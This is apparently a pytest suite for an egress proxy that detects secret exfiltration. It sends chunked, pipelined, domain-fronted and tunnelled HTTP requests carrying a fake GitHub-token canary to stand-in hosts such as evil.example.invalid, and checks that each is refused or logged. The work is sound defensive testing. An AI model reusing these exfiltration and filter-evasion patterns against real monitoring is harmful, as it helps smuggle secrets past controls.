"""airlock's proxy against real sockets: a ProxyServer on a unix socket, a real HTTP upstream on 127.0.0.1.

Each test commits an attack the one-request, Content-Length-only proxy let through (chunked bodies, keep-alive,
bytes past 64 KiB, domain fronting, cleartext in a tunnel, a full log) and checks it is refused or recorded with
its canary hit. The scan callable is a plain substring match: the proxy depends on nothing else of canaries.py.
"""

from __future__ import annotations

import http.server
import socket
import socketserver
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from airlock.scanners.runtime.proxy import Allowlist, ProxyEvent, ProxyServer

TOKEN = b"ghp_k3Xq9Lm2Vt7Rw4Zy8Pa1Sd6Fg0Hj5Nb"
NAME = "env:GITHUB_TOKEN"


def scan(data: bytes) -> set[str]:
    return {NAME} if TOKEN in data else set()


@dataclass
class Upstream:
    port: int
    requests: list[tuple[str, str, dict[str, str], bytes]] = field(default_factory=list)
    raw: list[bytes] = field(default_factory=list)


class _UpstreamHandler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _UpstreamServer

    def _body(self) -> bytes:
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            out = b""
            while True:
                size = int(self.rfile.readline().split(b";")[0], 16)
                if size == 0:
                    while self.rfile.readline() not in (b"\r\n", b""):
                        pass
                    return out
                out += self.rfile.read(size)
                self.rfile.readline()
        return self.rfile.read(int(self.headers.get("Content-Length", "0")))

    def _any(self) -> None:
        body = self._body()
        self.server.record.requests.append((self.command, self.path, dict(self.headers.items()), body))
        reply = f"ok {len(body)}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(reply)))
        self.end_headers()
        self.wfile.write(reply)

    do_GET = do_POST = do_PUT = _any

    def log_message(self, format: str, *args: object) -> None:
        pass


class _UpstreamServer(http.server.ThreadingHTTPServer):
    daemon_threads = True
    record: Upstream


class _RawHandler(socketserver.BaseRequestHandler):
    server: _RawServer

    def handle(self) -> None:
        got = b""
        while data := self.request.recv(65536):
            got += data
            self.request.sendall(b"echo")
        self.server.record.raw.append(got)


class _RawServer(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True
    record: Upstream


@pytest.fixture()
def upstream() -> Iterator[Upstream]:
    srv = _UpstreamServer(("127.0.0.1", 0), _UpstreamHandler)
    srv.record = Upstream(srv.server_address[1])
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv.record
    srv.shutdown()
    srv.server_close()


@pytest.fixture()
def raw_upstream() -> Iterator[Upstream]:
    srv = _RawServer(("127.0.0.1", 0), _RawHandler)
    srv.record = Upstream(srv.server_address[1])
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv.record
    srv.shutdown()
    srv.server_close()


def _proxy(tmp: Path, mode: str, allow: tuple[str, ...], **kw: object) -> ProxyServer:
    server = ProxyServer(str(tmp / "p.sock"), Allowlist.from_policy(allow, ()), mode, scan=scan, **kw)  # type: ignore[arg-type]
    server.start()
    return server


@pytest.fixture()
def sock_dir(tmp_path: Path) -> Path:
    # unix socket paths are limited to ~108 bytes; pytest's tmp_path can be longer
    import tempfile

    d = Path(tempfile.mkdtemp(prefix="rtp-"))
    yield d
    for p in d.iterdir():
        p.unlink()
    d.rmdir()


def exchange(server: ProxyServer, pieces: list[bytes], close_write: bool = True) -> bytes:
    """Sends each piece with its own write, then reads until the proxy closes the connection."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect(server.server_address)  # type: ignore[arg-type]
    for p in pieces:
        s.sendall(p)
    if close_write:
        s.shutdown(socket.SHUT_WR)
    out = b""
    try:
        while data := s.recv(65536):
            out += data
    finally:
        s.close()
    return out


def wait_for(cond: object, what: str) -> None:
    deadline = time.monotonic() + 10
    while not cond():  # type: ignore[operator]
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.01)


def chunked(*parts: bytes) -> bytes:
    return b"".join(f"{len(p):x}\r\n".encode() + p + b"\r\n" for p in parts) + b"0\r\n\r\n"


def post_chunked(port: int, body_parts: tuple[bytes, ...], close: bool = True) -> bytes:
    return (
        f"POST http://127.0.0.1:{port}/collect HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        f"Transfer-Encoding: chunked\r\n{'Connection: close' if close else 'X-A: b'}\r\n\r\n"
    ).encode() + chunked(*body_parts)


BODY = (b"x" * 5000 + TOKEN + b"y" * 3000, b"tail")


def test_chunked_canary_post_in_audit_is_forwarded_whole_and_recorded(sock_dir: Path, upstream: Upstream) -> None:
    server = _proxy(sock_dir, "audit", (f"127.0.0.1:{upstream.port}",))
    # headers and body in ONE write: the old proxy dropped such a body
    reply = exchange(server, [post_chunked(upstream.port, BODY)])
    assert reply.startswith(b"HTTP/1.1 200"), reply
    assert reply.endswith(b"ok %d" % len(b"".join(BODY)))
    assert [(m, p, b) for m, p, _, b in upstream.requests] == [("POST", "/collect", b"".join(BODY))]
    [ev] = server.snapshot()
    assert (ev.kind, ev.method, ev.host, ev.port, ev.path) == ("http", "POST", "127.0.0.1", upstream.port, "/collect")
    assert ev.allowed and ev.forwarded and not ev.fronting
    assert ev.hits == (NAME,)
    assert ev.size == len(b"".join(BODY)) and ev.truncated


def test_chunked_canary_post_in_enforce_is_refused_and_recorded(sock_dir: Path, upstream: Upstream) -> None:
    server = _proxy(sock_dir, "enforce", (f"127.0.0.1:{upstream.port}",))
    reply = exchange(server, [post_chunked(upstream.port, BODY)])
    assert reply.startswith(b"HTTP/1.1 403"), reply
    assert upstream.requests == []
    [ev] = server.snapshot()
    assert ev.allowed and not ev.forwarded
    assert ev.hits == (NAME,)


def test_every_request_on_a_keep_alive_connection_is_checked(sock_dir: Path, upstream: Upstream) -> None:
    server = _proxy(sock_dir, "audit", (f"127.0.0.1:{upstream.port}",))
    first = f"GET http://127.0.0.1:{upstream.port}/a HTTP/1.1\r\nHost: 127.0.0.1:{upstream.port}\r\n\r\n".encode()
    second = post_chunked(upstream.port, (TOKEN,), close=False)
    third = b"GET http://evil.example.invalid/x HTTP/1.1\r\nHost: evil.example.invalid\r\n\r\n"
    reply = exchange(server, [first, second, third])
    assert reply.count(b"HTTP/1.1 200") == 2 and reply.count(b"HTTP/1.1 403") == 1, reply
    assert [(m, p, b) for m, p, _, b in upstream.requests] == [("GET", "/a", b""), ("POST", "/collect", TOKEN)]
    evs = server.snapshot()
    assert [(e.method, e.host, e.forwarded, e.hits) for e in evs] == [
        ("GET", "127.0.0.1", True, ()),
        ("POST", "127.0.0.1", True, (NAME,)),
        ("GET", "evil.example.invalid", False, ()),
    ]


def test_requests_after_a_refusal_on_the_same_connection_are_still_recorded(sock_dir: Path) -> None:
    server = _proxy(sock_dir, "enforce", ("h.invalid",))
    first = b"GET http://h.invalid/ HTTP/1.1\r\nHost: h.invalid\r\n\r\n"
    second = b"POST http://h.invalid/u HTTP/1.1\r\nHost: h.invalid\r\nTransfer-Encoding: chunked\r\n\r\n"
    reply = exchange(server, [first, second + chunked(TOKEN[:4], TOKEN[4:])])
    assert reply.count(b"HTTP/1.1 403") == 2, reply
    assert [(e.method, e.forwarded, e.hits) for e in server.snapshot()] == [
        ("GET", False, ()),
        ("POST", False, (NAME,)),
    ]


def test_pipelined_requests_in_one_write_are_each_checked(sock_dir: Path, upstream: Upstream) -> None:
    server = _proxy(sock_dir, "audit", (f"127.0.0.1:{upstream.port}",))
    a = f"GET http://127.0.0.1:{upstream.port}/a HTTP/1.1\r\nHost: 127.0.0.1:{upstream.port}\r\n\r\n".encode()
    b = f"POST http://127.0.0.1:{upstream.port}/b HTTP/1.1\r\nHost: 127.0.0.1:{upstream.port}\r\n".encode()
    b += f"Content-Length: {len(TOKEN)}\r\nConnection: close\r\n\r\n".encode() + TOKEN
    reply = exchange(server, [a + b])
    assert reply.count(b"HTTP/1.1 200") == 2, reply
    assert [e.hits for e in server.snapshot()] == [(), (NAME,)]


def test_canary_past_64k_and_split_across_chunks_and_writes_is_found(sock_dir: Path) -> None:
    server = _proxy(sock_dir, "enforce", ())
    filler = b"a" * (200 * 1024)
    body = filler + TOKEN
    head = f"POST http://h.example.invalid/ HTTP/1.1\r\nHost: h.example.invalid\r\nContent-Length: {len(body)}\r\n\r\n"
    exchange(server, [head.encode() + filler + TOKEN[:9], TOKEN[9:]])
    # chunk boundary in the middle of the token, and each chunk in its own write
    exchange(
        server, [post_chunked(80, (b"b" * 70000 + TOKEN[:17], TOKEN[17:])).replace(b"127.0.0.1:80", b"h2.invalid")]
    )
    evs = server.snapshot()
    assert [(e.host, e.hits, e.size) for e in evs] == [
        ("h.example.invalid", (NAME,), len(body)),
        ("h2.invalid", (NAME,), 70000 + len(TOKEN)),
    ]
    assert all(len(e.body) <= 4096 and e.truncated for e in evs)


def test_host_header_other_than_the_target_is_refused_and_reported(sock_dir: Path, upstream: Upstream) -> None:
    server = _proxy(sock_dir, "audit", (f"127.0.0.1:{upstream.port}",))
    req = f"GET http://127.0.0.1:{upstream.port}/ HTTP/1.1\r\nHost: evil.example.invalid\r\n\r\n".encode()
    assert exchange(server, [req]).startswith(b"HTTP/1.1 403")
    conn = f"CONNECT 127.0.0.1:{upstream.port} HTTP/1.1\r\nHost: evil.example.invalid:443\r\n\r\n".encode()
    assert exchange(server, [conn]).startswith(b"HTTP/1.1 403")
    assert upstream.requests == []
    evs = server.snapshot()
    assert [(e.kind, e.fronting, e.forwarded, e.host_header) for e in evs] == [
        ("http", True, False, "evil.example.invalid"),
        ("connect", True, False, "evil.example.invalid:443"),
    ]


def test_matching_host_spellings_are_not_fronting(sock_dir: Path, upstream: Upstream) -> None:
    server = _proxy(sock_dir, "audit", (f"127.0.0.1:{upstream.port}", "h.invalid"))
    target = f"127.0.0.1:{upstream.port}"
    ok = f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n"
    assert exchange(server, [ok.encode()]).startswith(b"HTTP/1.1 200")
    exchange(server, [b"GET http://H.invalid./ HTTP/1.1\r\nHost: h.invalid:80\r\n\r\n"])
    assert [e.fronting for e in server.snapshot()] == [False, False]


def test_cleartext_inside_a_connect_tunnel_is_scanned(sock_dir: Path, raw_upstream: Upstream) -> None:
    server = _proxy(sock_dir, "audit", (f"127.0.0.1:{raw_upstream.port}",))
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect(server.server_address)  # type: ignore[arg-type]
    # the first cleartext bytes ride in the same write as the CONNECT request
    s.sendall(f"CONNECT 127.0.0.1:{raw_upstream.port} HTTP/1.0\r\n\r\n".encode() + b"x" * 100000 + TOKEN[:5])
    got = b""
    while b"200" not in got:
        got += s.recv(65536)
    s.sendall(TOKEN[5:] + b"\n")
    while b"echo" not in got:
        got += s.recv(65536)
    s.close()
    wait_for(lambda: raw_upstream.raw and server.snapshot()[0].size == 100000 + len(TOKEN) + 1, "the tunnel to end")
    assert raw_upstream.raw == [b"x" * 100000 + TOKEN + b"\n"]
    [ev] = server.snapshot()
    assert (ev.kind, ev.forwarded, ev.hits) == ("connect", True, (NAME,))


def test_cleartext_http_in_a_tunnel_must_name_the_tunnels_host(sock_dir: Path, raw_upstream: Upstream) -> None:
    server = _proxy(sock_dir, "audit", (f"127.0.0.1:{raw_upstream.port}",))
    target = f"127.0.0.1:{raw_upstream.port}"
    good = f"GET / HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()
    bad = b"GET /x HTTP/1.1\r\nHost: collect.example.invalid\r\n\r\n"
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect(server.server_address)  # type: ignore[arg-type]
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode() + good)
    got = b""
    while b"echo" not in got:
        got += s.recv(65536)
    s.sendall(bad)
    while s.recv(65536):  # the proxy cuts the tunnel
        pass
    s.close()
    wait_for(lambda: raw_upstream.raw, "the tunnel to end")
    assert raw_upstream.raw == [good]
    [ev] = server.snapshot()
    assert (ev.kind, ev.fronting, ev.host_header) == ("connect", True, "collect.example.invalid")


def test_a_snapshot_scans_a_tunnel_still_held_open(sock_dir: Path, raw_upstream: Upstream) -> None:
    # a small upload sits below the scan batch; the command ends with the tunnel open: the snapshot must see it
    server = _proxy(sock_dir, "audit", (f"127.0.0.1:{raw_upstream.port}",))
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect(server.server_address)  # type: ignore[arg-type]
    s.sendall(f"CONNECT 127.0.0.1:{raw_upstream.port} HTTP/1.0\r\n\r\n".encode())
    got = b""
    while b"200" not in got:
        got += s.recv(65536)
    s.sendall(b"k=" + TOKEN)
    while b"echo" not in got:
        got += s.recv(65536)
    [ev] = server.snapshot()
    s.close()
    assert (ev.kind, ev.hits, ev.size) == ("connect", (NAME,), len(TOKEN) + 2)


def test_a_bad_port_is_recorded_and_refused(sock_dir: Path) -> None:
    server = _proxy(sock_dir, "audit", ("h.invalid",))
    assert exchange(server, [b"GET http://h.invalid:99999/ HTTP/1.1\r\nHost: h.invalid\r\n\r\n"]).startswith(
        b"HTTP/1.1 403"
    )
    [ev] = server.snapshot()
    assert (ev.host, ev.port, ev.allowed, ev.forwarded) == ("h.invalid", 0, False, False)


def test_a_full_event_log_forwards_nothing_more(sock_dir: Path, upstream: Upstream) -> None:
    server = _proxy(sock_dir, "audit", (f"127.0.0.1:{upstream.port}",), max_events=2)
    req = f"GET http://127.0.0.1:{upstream.port}/n HTTP/1.1\r\nHost: 127.0.0.1:{upstream.port}\r\n\r\n".encode()
    reply = exchange(server, [req, req, req, req])
    assert reply.count(b"HTTP/1.1 200") == 2 and reply.count(b"HTTP/1.1 403") == 1, reply
    assert exchange(server, [req]).startswith(b"HTTP/1.1 403")
    connect = f"CONNECT 127.0.0.1:{upstream.port} HTTP/1.0\r\n\r\n".encode()
    assert exchange(server, [connect]).startswith(b"HTTP/1.1 403")
    assert len(upstream.requests) == 2
    assert len(server.snapshot()) == 2
    assert server.dropped == 3


def test_non_http_bytes_are_refused_and_scanned(sock_dir: Path) -> None:
    server = _proxy(sock_dir, "audit", ())
    assert exchange(server, [b"\x00\x01 junk " + TOKEN + b"\r\n\r\n"]).startswith(b"HTTP/1.1 400")
    [ev] = server.snapshot()
    assert ev.kind == "garbage" and ev.hits == (NAME,)


@pytest.fixture(scope="module")
def prop_server() -> Iterator[ProxyServer]:
    import tempfile

    d = Path(tempfile.mkdtemp(prefix="rtp-"))
    server = ProxyServer(str(d / "p.sock"), Allowlist.from_policy((), ()), "enforce", scan=scan)
    server.start()
    yield server
    server.shutdown()
    server.server_close()
    (d / "p.sock").unlink()
    d.rmdir()


def _key(ev: ProxyEvent) -> tuple[object, ...]:
    return (ev.kind, ev.method, ev.host, ev.port, ev.path, ev.headers, ev.body, ev.hits, ev.size, ev.truncated)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    pre=st.binary(max_size=300),
    post=st.binary(max_size=300),
    chunk_sizes=st.lists(st.integers(1, 64), min_size=1, max_size=8),
    use_chunked=st.booleans(),
    cuts=st.lists(st.integers(0, 10_000), max_size=12),
)
def test_split_points_do_not_change_what_is_recorded(
    prop_server: ProxyServer,
    pre: bytes,
    post: bytes,
    chunk_sizes: list[int],
    use_chunked: bool,
    cuts: list[int],
) -> None:
    body = pre + TOKEN + post
    head = b"POST http://sink.example.invalid/u?q=1 HTTP/1.1\r\nHost: sink.example.invalid\r\nX-Test: 1\r\n"
    if use_chunked:
        parts, i, k = [], 0, 0
        while i < len(body):
            n = chunk_sizes[k % len(chunk_sizes)]
            parts.append(body[i : i + n])
            i, k = i + n, k + 1
        wire = head + b"Transfer-Encoding: chunked\r\n\r\n" + chunked(*parts)
    else:
        wire = head + f"Content-Length: {len(body)}\r\n\r\n".encode() + body
    points = sorted({c % (len(wire) + 1) for c in cuts} | {0, len(wire)})
    pieces = [wire[a:b] for a, b in zip(points, points[1:]) if b > a]

    n = len(prop_server.snapshot())
    exchange(prop_server, [wire])
    exchange(prop_server, pieces)
    whole, split = prop_server.snapshot()[n:]
    assert _key(split) == _key(whole)
    assert whole.hits == (NAME,) and whole.size == len(body) and whole.body == body[:4096]
